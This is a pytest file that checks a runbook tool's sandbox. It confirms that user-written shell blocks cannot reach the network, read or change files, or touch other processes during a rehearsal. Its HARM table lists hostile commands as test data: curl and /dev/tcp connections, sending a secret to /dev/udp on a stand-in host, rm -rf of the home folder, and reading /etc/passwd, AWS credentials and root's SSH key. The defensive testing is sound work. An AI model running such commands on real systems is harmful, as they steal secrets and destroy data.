"""A user's own runbooks that mean harm, built and rehearsed on a machine full of secrets: nothing leaves, nothing changes.

What each of them could do if nothing confined it is shown, means by means, in tests/terminal/confinement/test_confiner_selection.py.
"""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
from collections.abc import Iterator, Mapping
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path
from threading import Thread
from typing import Any

import pytest

from mfa_binder.terminal.confinement.confiner_selection import find_bubblewrap
from mfa_binder.terminal.confinement.network_namespace import can_leave_network

PROD = "444455556666"
SECRET = "REAL-AND-NOT-TO-BE-SEEN"
FILES = "a block reaches only what is in its working folder and in its home$"
NETWORK = "a block reaches no network, only the simulator"
PROGRAMS = "a block may use only aws, base64, bash, "
GONE = "(No such file or directory|Permission denied|Read-only file system)"

HARM: Mapping[str, tuple[str, str]] = {
    "curl": ("curl http://127.0.0.1:<listener>/", f"curl: command not found; {PROGRAMS}"),
    "curl by its path": ("/usr/bin/curl http://127.0.0.1:<listener>/", f"/usr/bin/curl: {GONE}; {FILES}"),
    "curl that is not missed": (
        "curl http://127.0.0.1:<listener>/ || true",
        "it calls curl, which a block may not use",
    ),
    "python by its path": (
        "<python> -c 'import socket; socket.create_connection((\"127.0.0.1\", <listener>))'",
        f"(Connection refused|Permission denied).*; {NETWORK}",
    ),
    "bash to another host": ("exec 3<> /dev/tcp/192.0.2.1/443", f"Network is unreachable|Permission denied; {NETWORK}"),
    "bash to this machine": ("exec 3<> /dev/tcp/127.0.0.1/<listener>", f"Connection refused; {NETWORK}"),
    "bash by datagrams": ("echo <secret> > /dev/udp/192.0.2.1/53", f"Network is unreachable; {NETWORK}"),
    "another endpoint": (
        "aws sts get-caller-identity --endpoint-url http://127.0.0.1:<listener>",
        "--endpoint-url is refused: commands go to the simulator only",
    ),
    "another endpoint, shortened": (
        "aws sts get-caller-identity --end=http://127.0.0.1:<listener>",
        "--end is refused: commands go to the simulator only",
    ),
    "rm its home": ("rm -rf ~", f"cannot remove .*; {FILES}"),
    "rm what is above": ('rm -rf "$HOME"/..', f"refusing to remove .*; {FILES}"),
    "rm the folder above": ('rm -rf "${HOME%/*}"', f"cannot remove .*; {FILES}"),
    "write to /tmp": ("echo new > /tmp/mfa-binder-trespass", f"/tmp/mfa-binder-trespass: {GONE}; {FILES}"),
    "write to the caller's home": ("echo new > <home>/.bashrc", f"{GONE}; {FILES}"),
    "write to the working folder": ("echo new > <folder>/inventory.yaml", f"{GONE}; {FILES}"),
    "read the working folder": ("cat <folder>/inventory.yaml", f"{GONE}; {FILES}"),
    "read the list of users": ("cat /etc/passwd", f"/etc/passwd: {GONE}; {FILES}"),
    "read it by aws": (
        "aws iam create-policy --policy-name p --policy-document file:///etc/passwd",
        f"/etc/passwd.*{GONE}.*; {FILES}",
    ),
    "read the caller's keys": ("cat <home>/.aws/credentials", f"credentials: {GONE}; {FILES}"),
    "read the keys of root": ("cat ~root/.ssh/id_ed25519", f"id_ed25519'?: {GONE}"),
    "read another's environment": ("cat /proc/<process>/environ", f"environ: {GONE}; {FILES}"),
    "end another process": (
        "kill -9 <process>",
        "(No such process|Operation not permitted); a block reaches only processes that it started",
    ),
    "fill the disk": ("while :; do printf '%01000000d' 0; done > large", "a block may write at most 32 MB"),
    "speak without end": ("while :; do printf '%01000000d' 0; done", "a block may write at most 32 MB"),
}
"""What a block does, and how its page fails."""

HARMLESS = {
    "another endpoint by a variable": "AWS_ENDPOINT_URL_STS=http://127.0.0.1:<listener> aws sts get-caller-identity --query Account",
    "another endpoint by a profile": (
        "aws configure set endpoint_url http://127.0.0.1:<listener>\n"
        "aws configure set sts.endpoint_url http://127.0.0.1:<listener>\n"
        "aws sts get-caller-identity --query Account"
    ),
    "a proxy": "HTTP_PROXY=http://127.0.0.1:<listener> aws sts get-caller-identity --query Account",
    "the metadata of the machine": (
        "unset AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY AWS_EC2_METADATA_DISABLED\n"
        "export AWS_EC2_METADATA_SERVICE_ENDPOINT=http://127.0.0.1:<listener>\n"
        f"! aws sts get-caller-identity\n echo '\"{PROD}\"'"
    ),
    "its own variables": f"! export -p | grep REAL-''AND\necho '\"{PROD}\"'",
    "all it can read of processes": f"! cat /proc/*/environ 2>/dev/null | grep -a REAL-''AND\necho '\"{PROD}\"'",
}
"""What a block may do, because it leads nowhere: each prints the simulated account's number."""

INVENTORY: dict[str, Any] = {
    "schema": 1,
    "organizations": {"main": {"name": "Example Corp", "management_account": PROD, "region": "eu-central-1"}},
    "accounts": {PROD: {"name": "prod", "root": {"intended": "kept", "email": "root@example.com"}}},
}
TEMPLATE = """\
---
id: {id}
title: {title}
for_each: organization
who: Anybody.
present: Nobody.
time: No time.
when: Never.
when_not: Always.
---
{{{{ heading("Steps") }}}}

{{% call do() %}}
Do harm.
{{% endcall %}}
{{% call recorder.bash("{account}", [{after}]) %}}
{text}
{{% endcall %}}
{{% call see() %}}
Nothing.
{{% endcall %}}
{{% call otherwise() %}}
Nothing.
{{% endcall %}}
"""


class Listeners:
    """Servers of the machine itself that must hear nothing."""

    def __init__(self, opened: ExitStack, count: int) -> None:
        self.heard: list[bytes] = []
        self.servers = [opened.enter_context(socket.create_server(("127.0.0.1", 0))) for _ in range(count)]
        for server in self.servers:
            Thread(target=self._listen, args=(server,), daemon=True).start()

    def addresses(self) -> list[str]:
        return [f"http://127.0.0.1:{server.getsockname()[1]}" for server in self.servers]

    def _listen(self, server: socket.socket) -> None:
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            self.heard.append(connection.recv(1024))
            connection.close()


@dataclass(frozen=True)
class Machine:
    """A caller's machine after the rehearsal: its reports by the title of the page, and what has become of it."""

    blocks: Mapping[str, Mapping[str, Any]]
    heard: list[bytes]
    before: Mapping[Path, bytes]
    after: Mapping[Path, bytes]
    process: subprocess.Popen[bytes]
    report: str
    said: str


def state(*folders: Path) -> dict[Path, bytes]:
    """Every file with its content, but what a build and a rehearsal write where they should."""
    ours = re.compile(r"/(runbooks|rehearsal)(\.json|/)|/templates/")
    files = (path for folder in folders for path in folder.rglob("*") if not ours.search(str(path)))
    return {path: path.read_bytes() if path.is_file() else b"" for path in sorted(files)}


@pytest.fixture(scope="module")
def machine(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Machine]:
    """Built and rehearsed once: every page is one template of the user's."""
    base = tmp_path_factory.mktemp("machine")
    home, folder = base / "home", base / "folder"
    (home / ".aws").mkdir(parents=True)
    (folder / "templates").mkdir(parents=True)
    with ExitStack() as opened:
        listeners = Listeners(opened, 3)
        environment = plant(home, *listeners.addresses())
        process = subprocess.Popen(["sleep", "600"], env={"SECRET": SECRET})
        opened.callback(process.wait)
        opened.callback(process.kill)
        words = {"listener": listeners.addresses()[0].rpartition(":")[2], "home": home, "folder": folder}
        words |= {"python": sys.executable, "process": process.pid, "secret": SECRET}
        titles = furnish(folder, {name: str(word) for name, word in words.items()})
        command(folder, environment, "build", "--pages-only")
        before = state(home, folder)
        done = command(folder, environment, "rehearse", "--keep-going", "--format", "json", *titles)
        report = json.loads(done.stdout)
        blocks = {titles[block["id"].rpartition("-main")[0]]: block for block in report["blocks"]}
        yield Machine(
            blocks, listeners.heard, before, state(home, folder), process, done.stdout, done.stdout + done.stderr
        )


def plant(home: Path, listener: str, metadata: str, proxy: str) -> Mapping[str, str]:
    """Secrets where real ones lie, and every variable that could lead a program astray."""
    starts = home / "started"
    (home / ".aws" / "credentials").write_text(
        f"[default]\naws_access_key_id = {SECRET}\naws_secret_access_key = {SECRET}\n"
    )
    (home / ".aws" / "config").write_text(
        f"[default]\nregion = eu-central-1\nendpoint_url = {listener}\n"
        f"[profile real]\ncredential_process = /bin/sh -c 'echo started > {starts}'\n"
        f"[plugins]\ncli_legacy_plugin_path = {home}\nplanted = planted\n"
    )
    (home / "planted.py").write_text(f"open({str(starts)!r}, 'w')\ndef awscli_initialize(cli): pass\n")
    (home / ".bashrc").write_text(f"echo started > {starts}\n")
    return {
        **os.environ,
        "HOME": str(home),
        **dict.fromkeys(("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"), SECRET),
        "AWS_PROFILE": "real",
        "AWS_CONFIG_FILE": str(home / ".aws" / "config"),
        "AWS_SHARED_CREDENTIALS_FILE": str(home / ".aws" / "credentials"),
        "AWS_CA_BUNDLE": str(home / "no-such-bundle.pem"),
        "AWS_ENDPOINT_URL": listener,
        "AWS_ENDPOINT_URL_STS": listener,
        "AWS_EC2_METADATA_SERVICE_ENDPOINT": metadata,
        "AWS_CONTAINER_CREDENTIALS_FULL_URI": metadata,
        "AWS_WEB_IDENTITY_TOKEN_FILE": str(home / ".aws" / "credentials"),
        "AWS_ROLE_ARN": f"arn:aws:iam::{PROD}:role/{SECRET}",
        **dict.fromkeys(("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"), proxy),
        "BASH_ENV": str(home / ".bashrc"),
        "ENV": str(home / ".bashrc"),
    }


def furnish(folder: Path, words: Mapping[str, str]) -> dict[str, str]:
    """The working folder of a user with a runbook for each harm; the sheets' ids with what they do."""
    (folder / "inventory.yaml").write_text(json.dumps(INVENTORY))
    titles: dict[str, str] = {}
    promised = json.dumps({"prints": f'"{PROD}"'})
    texts = {title: (text, json.dumps({"prints_nothing": True})) for title, (text, _) in HARM.items()}
    texts |= {title: (text, promised) for title, text in HARMLESS.items()}
    for number, (title, (text, after)) in enumerate(texts.items()):
        sheet = "HARM" + "".join(chr(ord("A") + digit) for digit in divmod(number, 26))
        titles[sheet] = title
        for name, word in words.items():
            text = text.replace(f"<{name}>", word)
        filled = TEMPLATE.format(
            id=sheet, title=title.capitalize(), account=PROD, after=after, text="{% raw %}" + text + "{% endraw %}"
        )
        (folder / "templates" / f"{sheet.lower()}.md.j2").write_text(filled)
    return titles


def command(folder: Path, environment: Mapping[str, str], name: str, *words: str) -> subprocess.CompletedProcess[str]:
    only = [f"{sheet}-main" if sheet.startswith("HARM") else sheet for sheet in words]
    done = subprocess.run(
        [sys.executable, "-c", "from mfa_binder.cli import main; main()", "-C", str(folder), name, *only],
        env=dict(environment),
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode in (0, 3), done.stderr
    return done


needs_confinement = pytest.mark.skipif(
    find_bubblewrap() is None and not can_leave_network(),
    reason="this system confines nothing for users: see docs/rehearsal.md",
)


@needs_confinement
@pytest.mark.parametrize("harm", HARM)
def test_harm_fails_and_says_why(harm: str, machine: Machine) -> None:
    block = machine.blocks[harm]
    assert block["status"] == "failed"
    assert re.search(HARM[harm][1], block["reason"]), block["reason"]


@pytest.mark.parametrize("attempt", HARMLESS)
def test_what_leads_nowhere_passes(attempt: str, machine: Machine) -> None:
    block = machine.blocks[attempt]
    assert (block["status"], block["reason"]) == ("passed", "")


@needs_confinement
def test_nothing_left(machine: Machine) -> None:
    """Not to the metadata service, not through a proxy, not to an endpoint, not by any program."""
    assert machine.heard == []


def test_nothing_changed(machine: Machine) -> None:
    assert machine.after == machine.before
    assert not Path("/tmp/mfa-binder-trespass").exists()
    assert machine.process.poll() is None


def test_nothing_of_the_caller_s_was_started(machine: Machine) -> None:
    """No credential_process, no plugin of the AWS CLI, no start-up file of bash."""
    assert not [path for path in machine.after if path.name == "started"]


@needs_confinement
def test_the_report_says_what_held_and_by_what(machine: Machine) -> None:
    told = json.loads(machine.report)["confinement"]
    assert [told[held] for held in ("network", "files_read", "files_written", "processes")] == [True] * 4
    assert told["means"][0] == "a network namespace"
    assert told["sentence"].startswith(
        "The blocks were kept from every network, reading your files, changing your files and other processes. By: "
    )


def test_no_secret_is_told(machine: Machine) -> None:
    told = machine.said.replace(f"echo {SECRET}", "")
    assert SECRET not in told
